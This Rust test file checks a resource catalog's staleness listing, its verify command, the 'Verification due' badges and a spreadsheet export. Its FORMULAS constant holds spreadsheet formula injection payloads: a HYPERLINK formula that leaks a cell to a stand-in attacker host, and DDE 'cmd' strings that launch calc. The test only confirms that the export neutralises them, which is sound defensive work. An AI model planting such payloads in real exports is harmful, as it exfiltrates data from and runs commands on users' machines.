//! Keeping the catalog true: `lantern stale` lists what is due and says so in its exit code,
//! `lantern verify` changes the one line it should (and refuses what it must), record pages
//! and `/about` say what is due on the day they are rendered, and the spreadsheet export
//! cannot run a formula.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use axum::http::StatusCode;
use lantern::catalog::{Age, Date};
use lantern::curation::{self, CheckedSeeds, RecordKind, VerifyError};
use lantern::input::MaxBytes;
use lantern::web::clock::Clock;

use crate::common::{self, Scratch, edit, get, seeds_dir};

fn lantern(args: &[&str], seeds: &Path) -> Output {
    Command::new(env!("CARGO_BIN_EXE_lantern"))
        .args(args)
        .arg("--seeds")
        .arg(seeds)
        .env("NO_COLOR", "1")
        .output()
        .expect("the binary runs")
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn date(s: &str) -> Date {
    s.parse().unwrap()
}

/// Every file in `dir`, by name, with its bytes.
fn snapshot(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut files: Vec<_> = std::fs::read_dir(dir)
        .unwrap()
        .map(|entry| {
            let path = entry.unwrap().path();
            let bytes = std::fs::read(&path).unwrap();
            (path, bytes)
        })
        .collect();
    files.sort();
    files
}

/// The lines that differ between two texts, as `-old` / `+new` pairs with their numbers.
fn changed_lines(before: &str, after: &str) -> Vec<String> {
    assert_eq!(
        before.lines().count(),
        after.lines().count(),
        "lines were added or removed"
    );
    before
        .lines()
        .zip(after.lines())
        .enumerate()
        .filter(|(_, (old, new))| old != new)
        .map(|(i, (old, new))| format!("{}: -{old}\n{}: +{new}", i + 1, i + 1))
        .collect()
}

#[test]
fn on_2026_12_07_the_records_due_are_the_56_fbi_offices() {
    let seeds = CheckedSeeds::read(&seeds_dir(), MaxBytes::default()).unwrap();
    let stale = curation::stale(&seeds, Age::Months(12), date("2026-12-07"));
    assert_eq!(stale.cutoff, date("2025-12-07"));
    assert_eq!(stale.records, 105 + 18, "resources and organizations");
    assert_eq!(stale.due.len(), 56, "{stale}");
    let offices = std::fs::read_to_string(seeds_dir().join("fbi-field-offices.toml")).unwrap();
    let lines: Vec<&str> = offices.lines().collect();
    for record in &stale.due {
        assert_eq!(record.kind, RecordKind::Resource);
        assert!(record.slug.as_str().starts_with("fbi-"), "{}", record.slug);
        assert!(record.slug.as_str().ends_with("-field-office"));
        assert_eq!(record.file, seeds_dir().join("fbi-field-offices.toml"));
        assert_eq!(record.source.as_str(), "fbi-field-offices-2020");
        assert_eq!(record.last_verified, date("2020-12"));
        // The line named is the record's header, its slug on the next line.
        assert_eq!(lines[record.line - 1], "[[resource]]");
        assert_eq!(
            lines[record.line],
            format!("slug = \"{}\"", record.slug),
            "line {}",
            record.line
        );
    }
    // The other records were verified in November 2026: due a year and a day later.
    let later = curation::stale(&seeds, Age::Months(12), date("2027-11-23"));
    assert_eq!(later.due.len(), 56 + 66);
    let later = curation::stale(&seeds, Age::Months(12), date("2027-11-29"));
    assert_eq!(later.due.len(), 123);
}

#[test]
fn stale_lists_oldest_first_with_file_line_and_source_and_exits_1() {
    let scratch = Scratch::new();
    let seeds = scratch.copy_of_seeds();
    let hotlines = seeds.join("hotlines.toml");
    // Two records older than any real one, so the listing does not depend on today.
    edit(
        &hotlines,
        "last_verified = \"2026-11-22\"",
        "last_verified = \"1921-03-04\"",
    );
    edit(
        &hotlines,
        "last_verified = \"2026-11-28\"",
        "last_verified = \"1920-06\"",
    );
    let output = lantern(&["stale", "--older-than", "100y"], &seeds);
    assert_eq!(output.status.code(), Some(1), "{}", text(&output.stderr));
    let stdout = text(&output.stdout);
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(lines.len(), 2, "{stdout}");
    let hotline_line = hotlines.display().to_string() + ":40";
    let call_911_line = hotlines.display().to_string() + ":8";
    for (line, (verified, place, slug, source)) in lines.iter().zip([
        (
            "1920-06",
            hotline_line.as_str(),
            "national-human-trafficking-hotline",
            "doj-human-trafficking-resources-2023",
        ),
        (
            "1921-03-04",
            call_911_line.as_str(),
            "call-911",
            "ovc-law-enforcement-resources",
        ),
    ]) {
        let words: Vec<&str> = line.split_whitespace().collect();
        assert_eq!(
            words,
            [verified, place, "resource", slug, "source", source],
            "{stdout}"
        );
    }
    let stderr = text(&output.stderr);
    assert!(
        stderr.contains("2 of 123 records were last verified more than 100 years ago"),
        "{stderr}"
    );
    assert!(stderr.contains("lantern verify SLUG"), "{stderr}");
}

#[test]
fn stale_exits_0_with_a_sentence_when_none_is_due_and_2_on_a_bad_limit() {
    let output = lantern(&["stale", "--older-than", "100y"], &seeds_dir());
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    let stdout = text(&output.stdout);
    assert!(
        stdout.starts_with("No record was last verified more than 100 years ago (before "),
        "{stdout}"
    );
    assert!(stdout.trim_end().ends_with("none is due."), "{stdout}");

    for bad in ["12", "12x", "0m", "twelve", "-1y"] {
        let output = lantern(&["stale", &format!("--older-than={bad}")], &seeds_dir());
        assert_eq!(output.status.code(), Some(2), "{bad}");
        assert!(output.stdout.is_empty());
        assert!(
            text(&output.stderr).contains("--older-than"),
            "{}",
            text(&output.stderr)
        );
    }
}

#[test]
fn stale_refuses_seeds_the_importer_would_refuse() {
    let scratch = Scratch::new();
    let seeds = scratch.copy_of_seeds();
    edit(
        &seeds.join("hotlines.toml"),
        "last_verified = \"2026-11-22\"",
        "last_verified = \"someday\"",
    );
    let output = lantern(&["stale"], &seeds);
    assert_eq!(output.status.code(), Some(1));
    let stderr = text(&output.stderr);
    assert!(
        stderr
            .contains("hotlines.toml:22: entry 'call-911': last_verified: 'someday' is not a date"),
        "{stderr}"
    );
}

#[test]
fn verify_changes_exactly_one_line_of_one_seed_file() {
    let scratch = Scratch::new();
    let seeds = scratch.copy_of_seeds();
    let before = snapshot(&seeds);
    let output = lantern(
        &["verify", "fbi-boston-field-office", "--date", "2026-12-01"],
        &seeds,
    );
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    let file = seeds.join("fbi-field-offices.toml");
    let stdout = text(&output.stdout);
    assert!(
        stdout.starts_with(&format!("{}:", file.display()))
            && stdout
                .contains("resource fbi-boston-field-office: last_verified 2020-12 → 2026-12-01"),
        "{stdout}"
    );

    let after = snapshot(&seeds);
    assert_eq!(before.len(), after.len(), "no file added or removed");
    for ((path, old), (_, new)) in before.iter().zip(&after) {
        if *path != file {
            assert_eq!(old, new, "{} changed", path.display());
            continue;
        }
        let diff = changed_lines(&text(old), &text(new));
        assert_eq!(diff.len(), 1, "{}", diff.join("\n"));
        let line: usize = diff[0].split(':').next().unwrap().parse().unwrap();
        assert_eq!(
            diff[0],
            format!(
                "{line}: -last_verified = \"2020-12\"\n{line}: +last_verified = \"2026-12-01\""
            )
        );
        assert!(stdout.starts_with(&format!("{}:{line}: ", file.display())));
        // Byte for byte the rest: the same length but for the date's three added characters.
        assert_eq!(new.len(), old.len() + 3);
    }

    // The edited seeds still import, with the new date and nothing else different.
    let checked = CheckedSeeds::read(&seeds, MaxBytes::default()).unwrap();
    let boston = checked.find("fbi-boston-field-office");
    assert_eq!(boston[0].last_verified, date("2026-12-01"));
    let stale = curation::stale(&checked, Age::Months(12), date("2026-12-07"));
    assert_eq!(stale.due.len(), 55);

    // Verifying it again on the same day changes nothing, and says so.
    let output = lantern(
        &["verify", "fbi-boston-field-office", "--date", "2026-12-01"],
        &seeds,
    );
    assert_eq!(output.status.code(), Some(0));
    assert!(text(&output.stdout).contains("already last verified on 2026-12-01"));
    assert_eq!(snapshot(&seeds), after);
}

#[test]
fn verify_writes_an_organization_too() {
    let scratch = Scratch::new();
    let seeds = scratch.copy_of_seeds();
    let file = seeds.join("organizations.toml");
    let before = std::fs::read_to_string(&file).unwrap();
    let output = lantern(&["verify", "ovc", "--date", "2026-12-02"], &seeds);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    let diff = changed_lines(&before, &std::fs::read_to_string(&file).unwrap());
    assert_eq!(diff.len(), 1, "{}", diff.join("\n"));
    assert!(
        diff[0].ends_with("+last_verified = \"2026-12-02\""),
        "{}",
        diff[0]
    );
}

#[test]
fn verify_refuses_unknown_slugs_future_days_and_days_before_the_source() {
    let scratch = Scratch::new();
    let seeds = scratch.copy_of_seeds();
    let before = snapshot(&seeds);
    let tomorrow = Date::from_days_since_epoch(Date::today().days_since_epoch() + 1).to_string();
    for (args, expected) in [
        (
            vec!["verify", "fbi-nowhere-field-office"],
            "no resource or organization in the seeds is called 'fbi-nowhere-field-office'",
        ),
        (vec!["verify", "Not A Slug"], "is not a slug"),
        (
            vec!["verify", "call-911", "--date", &tomorrow],
            "is in the future",
        ),
        (
            // The FBI's list is of December 2020.
            vec!["verify", "fbi-boston-field-office", "--date", "2020-11-30"],
            "2020-11-30 is before the date of the record's source, fbi-field-offices-2020 (2020-12)",
        ),
        (
            vec!["verify", "call-911", "--date", "2026-12"],
            "give the day, as YYYY-MM-DD",
        ),
        (
            vec!["verify", "call-911", "--date", "2026-02-30"],
            "is not a real date",
        ),
    ] {
        let output = lantern(&args, &seeds);
        assert_eq!(output.status.code(), Some(2), "{args:?}");
        let stderr = text(&output.stderr);
        assert!(stderr.contains(expected), "{args:?}: {stderr}");
        assert_eq!(snapshot(&seeds), before, "{args:?} changed the seeds");
    }
    // A day within the source's month is not before it.
    let output = lantern(
        &["verify", "fbi-boston-field-office", "--date", "2020-12-15"],
        &seeds,
    );
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
}

#[test]
fn verify_leaves_the_file_as_it_was_when_the_importer_refuses_the_edit() {
    let scratch = Scratch::new();
    let seeds = scratch.copy_of_seeds();
    let before = snapshot(&seeds);
    // A clock far ahead lets the date past verify's own check; the importer's checks, run on
    // the edited text by the real clock, find it in the future.
    let error = curation::verify(
        &seeds,
        MaxBytes::default(),
        &"call-911".parse().unwrap(),
        Some(date("2998-01-01")),
        date("2999-01-01"),
    )
    .unwrap_err();
    assert!(matches!(error, VerifyError::Checks { .. }), "{error}");
    let message = error.to_string();
    assert!(
        message.contains("do not pass the importer's checks")
            && message.contains("entry 'call-911': last_verified: 2998-01-01 is in the future"),
        "{message}"
    );
    assert_eq!(snapshot(&seeds), before);

    // Seeds that are already wrong are refused before any edit, with their problems.
    edit(
        &seeds.join("hotlines.toml"),
        "slug = \"call-911\"",
        "slug = \"Call 911\"",
    );
    let broken = snapshot(&seeds);
    let output = lantern(&["verify", "fbi-boston-field-office"], &seeds);
    assert_eq!(output.status.code(), Some(1));
    assert!(text(&output.stderr).contains("hotlines.toml:9: entry 'Call 911': slug"));
    assert_eq!(snapshot(&seeds), broken);
}

#[tokio::test]
async fn record_pages_say_verification_due_in_both_languages_on_the_day_it_falls_due() {
    let (_scratch, state) = common::imported().await;
    let clock = Clock::set_to(date("2026-12-07"));
    let app = lantern::app(state.clock(clock.clone()));
    let label = "<span class=\"badge due\">Verification due</span>";
    let label_es = "<span class=\"badge due\">Verificación pendiente</span>";

    let office = get(&app, "/resources/fbi-albany-field-office").await;
    assert_eq!(office.status, StatusCode::OK);
    // At the top, with the notice, and beside the last verification date.
    assert_eq!(office.body.matches(label).count(), 2, "{}", office.body);
    assert!(office.body.contains("last verified more than a year ago"));
    let spanish = get(&app, "/es/resources/fbi-albany-field-office").await;
    assert_eq!(spanish.body.matches(label_es).count(), 2);
    assert!(!spanish.body.contains("Verification due"));

    let hotline = get(&app, "/resources/national-human-trafficking-hotline").await;
    assert!(!hotline.body.contains("badge due"), "verified 2026-11-28");
    let agency = get(&app, "/organizations/fbi").await;
    assert!(!agency.body.contains("badge due"), "verified 2026-11-22");

    // A year and a day after 2026-11-22, the agency (and most entries) fall due: the kept
    // pages are rendered again for the new day.
    clock.advance(351);
    assert_eq!(clock.today(), date("2027-11-23"));
    let agency = get(&app, "/organizations/fbi").await;
    assert_eq!(agency.body.matches(label).count(), 1, "{}", agency.body);
    let agency_es = get(&app, "/es/organizations/fbi").await;
    assert_eq!(agency_es.body.matches(label_es).count(), 1);
    let hotline = get(&app, "/resources/national-human-trafficking-hotline").await;
    assert!(!hotline.body.contains("badge due"), "verified 2026-11-28");
    clock.advance(6);
    let hotline = get(&app, "/resources/national-human-trafficking-hotline").await;
    assert_eq!(hotline.body.matches(label).count(), 2);
}

#[tokio::test]
async fn about_counts_the_records_due_on_the_day_it_is_rendered() {
    let (_scratch, state) = common::imported().await;
    let clock = Clock::set_to(date("2026-11-28"));
    let app = lantern::app(state.clock(clock.clone()));
    let about = get(&app, "/about").await;
    assert!(
        about.body.contains(
            "Today 56 of the 123 entries and agencies are due for verification: they were last \
             checked more than a year ago, and their pages are marked “Verification due”."
        ),
        "{}",
        about.body
    );
    let about_es = get(&app, "/es/about").await;
    assert!(
        about_es
            .body
            .contains("Hoy 56 de las 123 entradas y agencias tienen la verificación pendiente"),
        "{}",
        about_es.body
    );
    // The same kept page the same day; a new count the day 66 more fall due.
    assert_eq!(get(&app, "/about").await.bytes, about.bytes);
    clock.advance(360);
    assert_eq!(clock.today(), date("2027-11-23"));
    let about = get(&app, "/about").await;
    assert!(
        about
            .body
            .contains("Today 122 of the 123 entries and agencies are due for verification"),
        "{}",
        about.body
    );

    // Before any was a year old, the page says none is due.
    let (_scratch, state) = common::imported().await;
    let app = lantern::app(state.clock(Clock::set_to(date("2021-06-01"))));
    assert!(get(&app, "/about").await.body.contains(
        "Today none of the 123 entries and agencies is due for verification: each was \
             checked against its source within the last year."
    ));
    assert!(
        get(&app, "/es/about")
            .await
            .body
            .contains("Hoy ninguna de las 123 entradas y agencias tiene la verificación pendiente")
    );
}

/// Cells a spreadsheet would run as formulas, each at the start of a record's text.
const FORMULAS: [(&str, &str); 6] = [
    (
        "=",
        r#"=HYPERLINK("http://attacker.test/?leak="&A1,"Help")"#,
    ),
    ("+", "+1+cmd|' /C calc'!A0"),
    ("-", "-2+3+cmd|' /C calc'!A0"),
    ("@", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("tab", "\t=1+1"),
    ("carriage return", "\r=1+1"),
];

#[tokio::test]
async fn the_spreadsheet_export_neutralises_formulas_and_the_hsds_package_keeps_every_byte() {
    let scratch = Scratch::new();
    let seeds = scratch.copy_of_seeds();
    let toml_string = |text: &str| {
        format!(
            "\"{}\"",
            text.replace('\\', "\\\\")
                .replace('"', "\\\"")
                .replace('\t', "\\t")
                .replace('\r', "\\r")
        )
    };
    // Names (and a summary, an alternate name, an address and a phone number) that begin
    // with each character, in records of four files.
    let files = [
        ("hotlines.toml", "name = \"Call 911\""),
        ("reporting.toml", "name = \"Submit an FBI Tip\""),
        (
            "fbi-field-offices.toml",
            "name = \"FBI Albany Field Office\"",
        ),
        ("funding.toml", "\nname = \""),
        ("training.toml", "\nname = \""),
        ("publications.toml", "\nname = \""),
    ];
    for ((_, formula), (file, name_line)) in FORMULAS.iter().zip(files) {
        let path = seeds.join(file);
        let original = std::fs::read_to_string(&path).unwrap();
        let at = original.find(name_line).unwrap() + name_line.find("name").unwrap();
        let end = at + original[at..].find('\n').unwrap();
        let edited = format!(
            "{}name = {}{}",
            &original[..at],
            toml_string(formula),
            &original[end..]
        );
        std::fs::write(&path, edited).unwrap();
    }
    for (file, from, to) in [
        (
            "hotlines.toml",
            "summary = \"If you or someone",
            "summary = \"+If you or someone",
        ),
        (
            "fbi-field-offices.toml",
            "alternate_names = [\"FBI Albany\"]",
            "alternate_names = [\"-FBI Albany\"]",
        ),
        (
            "fbi-field-offices.toml",
            "address = \"200 McCarty Avenue Albany, NY 12209\"",
            "address = \"@200 McCarty Avenue Albany, NY 12209\"",
        ),
        (
            "hotlines.toml",
            "number = \"888-373-7888\"",
            "number = \"+1 888-373-7888\"",
        ),
        (
            "organizations.toml",
            "name = \"Office for Victims of Crime\"",
            "name = \"=Office for Victims of Crime\"",
        ),
    ] {
        edit(&seeds.join(file), from, to);
    }
    let database = scratch.database();
    lantern::cli::import(&seeds, &database, MaxBytes::default())
        .await
        .expect("the edited seeds import");

    let out = scratch.dir.path().join("csv");
    lantern::cli::export_database(&database, lantern::export::ExportFormat::Csv, &out)
        .await
        .unwrap();
    let formula_start = |cell: &str| cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let mut neutralised = Vec::new();
    for table in ["resources.csv", "organizations.csv"] {
        let mut reader = csv::Reader::from_path(out.join(table)).unwrap();
        let headers = reader.headers().unwrap().clone();
        for row in reader.records() {
            let row = row.unwrap();
            for (header, cell) in headers.iter().zip(row.iter()) {
                assert!(!formula_start(cell), "{table} {header}: {cell:?}");
                if let Some(rest) = cell.strip_prefix('\'') {
                    neutralised.push((header.to_owned(), rest.to_owned()));
                }
            }
        }
    }
    // Import trims text, so a tab or carriage return in front reaches the catalog as the
    // formula behind it, which is neutralised like the others.
    for (what, formula) in FORMULAS {
        let stored = formula.trim();
        assert!(
            neutralised
                .iter()
                .any(|(header, cell)| header == "name" && cell == stored),
            "the name starting with {what} was not neutralised: {neutralised:?}"
        );
    }
    for (header, start) in [
        ("summary", "+If you or someone"),
        ("alternate_names", "-FBI Albany"),
        ("address", "@200 McCarty Avenue"),
        ("phones", "+1 888-373-7888 (voice"),
        ("name", "=Office for Victims of Crime"),
    ] {
        assert!(
            neutralised
                .iter()
                .any(|(h, cell)| h == header && cell.starts_with(start)),
            "{header} {start:?}: {neutralised:?}"
        );
    }
    assert_eq!(neutralised.len(), FORMULAS.len() + 5, "{neutralised:?}");

    // The HSDS package is data interchange: its cells are the catalog's text, unchanged.
    let package = scratch.dir.path().join("hsds");
    lantern::cli::export_database(&database, lantern::export::ExportFormat::Hsds, &package)
        .await
        .unwrap();
    let services = std::fs::read_to_string(package.join("services.csv")).unwrap();
    assert!(services.contains(r#""=HYPERLINK(""http://attacker.test/?leak=""&A1,""Help"")""#));
    assert!(
        services.contains("\n@SUM(1+1)") || services.contains(",@SUM(1+1)"),
        "{services}"
    );
    assert!(!services.contains("'="), "{services}");
    let phones = std::fs::read_to_string(package.join("phones.csv")).unwrap();
    assert!(phones.contains(",+1 888-373-7888,"), "{phones}");
}
